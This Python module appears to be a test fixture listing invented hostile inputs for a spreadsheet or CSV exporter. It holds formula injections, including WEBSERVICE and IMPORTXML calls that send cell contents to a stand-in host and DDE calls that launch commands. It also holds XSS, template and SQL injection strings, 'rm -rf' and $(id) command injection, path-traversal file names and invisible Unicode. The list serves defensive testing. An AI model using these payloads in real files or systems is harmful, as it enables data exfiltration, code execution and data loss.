"""Texts that try to become something else: a formula, markup, a template, a command, an invisible sign.

Belongs here: what an attacker, or a spreadsheet gone mad, writes into cells, sheet names and file names. Not here:
broken containers. Everything is invented.
"""

FORMULAS = [
    f"{start}{body}"
    for start in ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", " =", "\u00a0=", "＝", "＋", "－", "＠"]
    for body in ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://boese.example","Klick")', "SUM(A1:A9)", "A1&B1"]
] + [
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("http://boese.example/"&A1)',
    '=IMPORTXML(CONCAT("http://boese.example/?x=", A1), "//a")',
    "{=1+1}",
    "'=1+1",
    '"=1+1"',
    "a;=1+1",
    'a";=1+1;"',
    "a\r\n=1+1",
    "-5-5",
    "-1,5,5e3",
    "+49 2323 16",
    "--1",
    "-",
]
MARKUP = [
    shell.format(payload)
    for shell in ["{}", '">{}', "'>{}", "</title>{}", "</td></tr></table>{}", "<!--{}", "]]>{}", "</style>{}"]
    for payload in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<body onpageshow=alert(1)>",
        "<meta http-equiv=refresh content='0;url=http://boese.example'>",
        "<link rel=stylesheet href=http://boese.example>",
        "<base href=http://boese.example/>",
        "<form action=http://boese.example><input name=q></form>",
    ]
] + [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&amp;amp;",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onload=`alert(1)",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a\nhref=x>",
    "<<<<>>>>",
    "&",
]
TEMPLATES = [
    "{{7*7}}",
    "{{ config }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{# weg #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s%s%n",
    "%(receipt)s",
    "{0}",
    "{value}",
    "{receipt.__class__}",
    "$(id)",
    "`id`",
    "; rm -rf .",
    "' OR 1=1 --",
    "'); DROP TABLE deliveries;--",
    "\\x3cscript\\x3e",
    "\\u003cscript\\u003e",
]
INVISIBLE = [
    f"Bo{char}chum"
    for char in (
        [chr(code) for code in range(0x202A, 0x202F)]
        + [chr(code) for code in range(0x2066, 0x206A)]
        + ["\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\ufeff", "\u00ad", "\u2028", "\u2029", "\ue000", "\ufffe"]
        + ["\0", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b", "\x7f", "\x85", "\x9b", "\udcfc", "\ud800"]
    )
] + [
    "\x1b[31mrot\x1b[0m",
    "\x1b]0;Titel\x07",
    "zwei\nZeilen",
    "Zeile\rüber Zeile",
    "\u0412ochum",
    "Mu\u0308lheim",
    "12\u00a0345",
    "\U0001f3f4\u200d\u2620\ufe0f",
    "\u0645\u062f\u064a\u0646\u0629",
    "ﷺ" * 20,
    "Z" + "\u0301" * 40,
    "x" * 5000,
    "_x000D_",
    '&L&"Arial"&8fremd',
]
NAMES = [
    "con.csv",
    "..",
    "../../etc/passwd",
    "..\\..\\windows",
    "a/b",
    "nul",
    "x.csv ",
    "x.csv.",
    "-rf.csv",
    "Befunde",
    "History",
    "'Blatt'",
    "[Mappe]Blatt!A1",
    "Tabelle:1?*",
    "x" * 255,
]
HOSTILE = [*FORMULAS, *MARKUP, *TEMPLATES, *INVISIBLE, *NAMES]
